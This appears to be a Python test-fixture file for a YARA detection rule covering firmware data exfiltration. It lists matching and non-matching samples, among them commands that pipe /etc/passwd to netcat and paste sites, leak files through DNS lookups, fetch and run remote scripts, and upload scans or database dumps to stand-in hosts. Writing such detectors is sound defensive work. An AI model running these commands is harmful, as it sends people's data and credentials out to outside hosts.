"""Cases of ``exfiltration.yar``."""

from __future__ import annotations

from tests.rules_backdoor.make import Case, case, dex, elf, pe, sh, wide

FAKE = "FAKE" * 20
HEX = "0123456789abcdef" * 4

EXFIL: tuple[Case, ...] = (
    case(
        "exfil_cloud_command",
        (
            sh("aws s3 cp --quiet /var/scans/a.img s3://drop/a.img"),
            sh("rclone copy /var/scans remote:drop"),
            sh("ossutil64 cp -r /data/log oss://drop/x/"),
            elf("gsutil cp %s gs://drop/"),
            sh("az storage blob upload-batch -s /data -d c"),
            "@echo off\r\nazcopy copy D:\\scans https://drop.invalid/c\r\n",
        ),
        (
            sh("aws s3 cp s3://pkg/fw.bin /tmp/fw.bin"),
            sh("aws sts get-caller-identity"),
            sh("rclone version"),
            "The manual: gsutil cp dir gs://bucket\n",
        ),
    ),
    case(
        "exfil_cloud_writer",
        (
            elf("bucket.oss-cn-shenzhen.aliyuncs.com", "x-oss-security-token"),
            pe(wide("x.blob.core.windows.net"), wide("x-ms-blob-type")),
            elf("b.cos.ap-beijing.myqcloud.com", "x-cos-acl"),
        ),
        (
            elf("mirrors.aliyuncs.com", "x-oss-"),
            elf("bucket.oss-cn-shenzhen.aliyuncs.com"),
            elf("AWS4-HMAC-SHA256"),
        ),
    ),
    case(
        "exfil_rclone_remote",
        ("[drop]\ntype = s3\nprovider = Minio\nsecret_access_key = n0tr3al\n",),
        ("[drop]\ntype = s3\nprovider = Minio\n", "[db]\ntype = table\npass = n0tr3al\n"),
    ),
    case(
        "exfil_file_host",
        (
            sh("curl --upload-file /tmp/a https://transfer.sh/a"),
            elf("POST", "content.dropboxapi.com/2/files/upload"),
            pe(wide("https://graph.microsoft.com/v1.0/me/drive/root:/x:/content"), "PUT "),
        ),
        (
            sh("curl https://www.dropbox.com/"),
            elf("content.dropboxapi.com/2/files/download", "POST"),
        ),
    ),
    case(
        "exfil_chat_hook",
        (
            sh("curl -d @m https://discord.com/api/webhooks/" + "1" * 18 + "/" + FAKE[:68]),
            elf("https://oapi.dingtalk.com/robot/send?access_token=" + HEX),
            elf("https://open.feishu.cn/open-apis/bot/v2/hook/%s"),
            wide("https://qyapi.weixin.qq.com/cgi-bin/webhook/send?key=%s"),
        ),
        (
            "https://discord.com/api/webhooks/",
            "see open.feishu.cn/open-apis for the interface",
            "https://hooks.slack.com/services/T000/B000/XXX",
        ),
    ),
    case(
        "exfil_fixed_address",
        (
            sh("curl -s http://9.9.9.7:8080/in?a=1"),
            sh("while :; do nc 45.67.89.10 4000 < /dev/ttyS1; sleep 9; done"),
        ),
        (
            sh("curl -s http://192.168.1.7/in", "nc 10.0.0.1 99", "curl 172.20.1.1/x"),
            sh("curl -s https://in.invalid/1.2.3"),
            "curl -s http://9.9.9.7/in",
        ),
    ),
    case(
        "exfil_contec_addresses",
        (elf("mount -o nolock -t nfs 202.114.4.119:/pm /mnt"),),
        (elf("202.114.4.11"), elf("1202.114.4.1190")),
    ),
    case(
        "exfil_nfs_copy",
        (
            elf(
                "mount -o nolock,soft -t nfs %s:/fw /mnt",
                "cp -rf /mnt/monitor /opt/bin",
                "ifconfig eth0 up",
            ),
            sh("mount -t nfs files:/drop /mnt/nfs", "cp -r /var/scans /mnt/nfs/"),
        ),
        (
            sh("mount -t nfs files:/drop /mnt/nfs", "ls /mnt/nfs"),
            sh("mount -t ext4 /dev/sda1 /mnt", "cp /var/x /mnt/x"),
        ),
    ),
    case(
        "exfil_ftp_push",
        (
            sh("ftpput -u up -p n0tr3al in.invalid a.img /var/scans/a.img"),
            sh("ftp -inv in.invalid <<E", "user a b", "put /var/scans/a.img", "E"),
            sh("tftp -p -l /data/log.txt in.invalid"),
            "f = ftplib.FTP(h)\nf.storbinary('STOR a', open('a', 'rb'))\n",
        ),
        (
            sh("tftp -g -r fw.bin host"),
            sh("ftp -inv in.invalid <<E", "get fw.bin", "E"),
            elf("Usage: ftpput [OPTIONS] HOST [REMOTE_FILE] LOCAL_FILE"),
            "f = ftplib.FTP(h)\nf.retrbinary('RETR a', w)\n",
        ),
    ),
    case(
        "exfil_ssh_push",
        (
            sh("scp -i /etc/k -P 2222 /var/scans/a.img drop@in.invalid:/in/"),
            sh("rsync -az /data/log/ up@in.invalid:/in/"),
            sh("tar cz /etc | ssh -i k drop@in.invalid 'cat > a.tgz'"),
        ),
        (
            sh("scp drop@in.invalid:/fw.bin /tmp/"),
            sh("rsync -a /usr/share/a /tmp/b"),
        ),
    ),
    case(
        "exfil_web_upload",
        (
            sh("curl -T /tmp/d.tgz -u a:b https://in.invalid/up/"),
            sh("curl -F file=@/tmp/d.tgz https://in.invalid/up"),
            "requests.post(u, files={'f': open('/data/log', 'rb')})\n",
            wide("Invoke-RestMethod -Method Post -Uri https://in.invalid -InFile C:\\scan.img"),
        ),
        (
            sh("curl -o fw.bin https://in.invalid/fw.bin"),
            "requests.post(u, json=payload)\n",
        ),
    ),
    case(
        "exfil_form_program",
        (
            elf(
                "Content-Type: multipart/form-data; boundary=%s",
                'Content-Disposition: form-data; name="file"; filename="%s"',
                "/data/record/cam0",
            ),
        ),
        (
            elf("Content-Type: multipart/form-data; boundary=%s", "/data/record/cam0"),
            elf("multipart/form-data; boundary", 'form-data; name="file"; filename="'),
        ),
    ),
    case(
        "exfil_mail_script",
        (
            sh("mutt -s log -a /var/log/messages -- x@in.invalid < /dev/null"),
            sh("curl smtps://mail.invalid --mail-rcpt x@in.invalid --upload-file m.txt"),
            "s = smtplib.SMTP(h)\nm.attach(MIMEBase('a', 'b'))\n",
            wide("Send-MailMessage -To x -Attachments C:\\scan.img"),
        ),
        (
            sh("echo full | mail -s disk root"),
            "s = smtplib.SMTP(h)\ns.sendmail(a, b, 'hello')\n",
        ),
    ),
    case(
        "exfil_mail_program",
        (
            elf(
                "MAIL FROM:<%s>",
                "RCPT TO:<%s>",
                "AUTH LOGIN",
                'Content-Disposition: attachment; filename="%s"',
                "fakebox@163.com",
            ),
        ),
        (
            elf("MAIL FROM:<%s>", "RCPT TO:<%s>", "AUTH LOGIN", "Content-Disposition: attachment"),
            elf("support@qq.com", "MAIL FROM:<"),
        ),
    ),
    case(
        "exfil_dns_labels",
        (
            sh("nslookup $(hostname | base64 | tr -d =).q.in.invalid"),
            sh("xxd -p /etc/passwd | while read l; do dig $l.q.in.invalid; done"),
        ),
        (
            sh("nslookup in.invalid"),
            "The host `a` and the hostname of `b`.n\n",
            sh("host in.invalid", "echo $(hostname)"),
            sh("dig +short gateway.lan"),
            sh("xxd -p f"),
        ),
    ),
    case(
        "exfil_paste_site",
        (
            sh("cat /etc/passwd | nc termbin.com 9999"),
            pe(wide("https://pastebin.com/api/api_post.php")),
            sh("curl -s https://gist.githubusercontent.com/a/b/raw | sh"),
        ),
        (sh("echo see pastebin.com"), elf("pastebin.com"), sh("nc host.invalid 9999")),
    ),
    case(
        "exfil_ipfs",
        (sh("ipfs add -r /var/scans"), elf("/api/v0/add?pin=true", "ipfs.infura.io")),
        (sh("ipfs version"), elf("/api/v0/add")),
    ),
    case(
        "exfil_device_identity",
        (
            elf("imei=%s&imsi=%s", "POST /reg"),
            elf('{"imei":"%s","imsi":"%s","mac":"%s"}', "http://in.invalid/reg"),
            elf("/reg?imei=%s&iccid=%s&vin=%s", "curl_easy_init"),
            dex("&imei=", "&imsi=", "Ljava/net/HttpURLConnection;"),
        ),
        (
            elf('{"imei":"%s"}', "http://in.invalid/reg"),
            elf("AT+CIMI", "AT+CGSN", "imei", "imsi", "https://in.invalid"),
            elf('{"mac":"%s","serial":"%s"}', "https://in.invalid"),
        ),
    ),
    case(
        "exfil_identity_script",
        (
            sh('curl -s "https://in.invalid/r?h=$(hostname)&m=$(cat /sys/class/net/eth0/address)"'),
            sh("mosquitto_pub -h in.invalid -t d -m `uname -a`"),
        ),
        (sh('curl -s "https://in.invalid/r?v=$(cat /etc/version)"'), sh("echo $(hostname)")),
    ),
    case(
        "exfil_foreign_iot_cloud",
        (
            elf("%s.iot-as-mqtt.cn-shanghai.aliyuncs.com"),
            elf("mqtts.heclouds.com"),
            elf("mqtt.tuyacn.com", "a1.tuyacn.com"),
            wide("server.growatt.com"),
        ),
        (elf("mqtt.example.invalid"), elf("heclouds"), "tuya"),
    ),
    case(
        "exfil_syslog_remote",
        (
            "\n*.* @@9.9.9.7:514\n",
            sh("syslogd -n -R 45.67.89.10:514"),
            'action(type="omfwd" target="9.9.9.7" port="514")',
        ),
        ("\n*.* @192.168.1.7\n", sh("syslogd -n -R 10.0.0.1"), "\n*.* /var/log/all\n"),
    ),
    case(
        "exfil_watch_folder",
        (
            sh(
                "inotifywait -m -e close_write /var/scans | while read p e f; do",
                "  curl -T $p/$f https://in.invalid/",
                "done",
            ),
            sh("find /var/scans -mmin -5 -name '*.img' -exec scp {} in.invalid: \\;"),
            (
                "$w = New-Object IO.FileSystemWatcher\n(New-Object Net.WebClient)"
                ".UploadFile('https://in.invalid/', $f)"
            ),
        ),
        (
            sh("inotifywait -m -e close_write /etc | while read p e f; do reload; done"),
            sh("find /var/scans -mtime +30 -exec rm {} \\;"),
        ),
    ),
    case(
        "exfil_image_store",
        (
            sh("storescu -aec ARCHIVE in.invalid 11112 /var/scans/a.dcm"),
            (
                "requests.post(base + '/dicom-web/studies', headers="
                "{'Content-Type': 'application/dicom+json'})"
            ),
        ),
        (sh("storescu --version"), sh("dcmdump a.dcm"), "application/dicom"),
    ),
    case(
        "exfil_database_dump",
        (
            sh("pg_dump scans | gzip | curl -T - https://in.invalid/d"),
            sh("mysqldump scans > /tmp/d.sql", "scp /tmp/d.sql in.invalid:"),
        ),
        (sh("pg_dump scans | gzip > /backup/d.gz"), sh("mysqldump --help")),
    ),
)
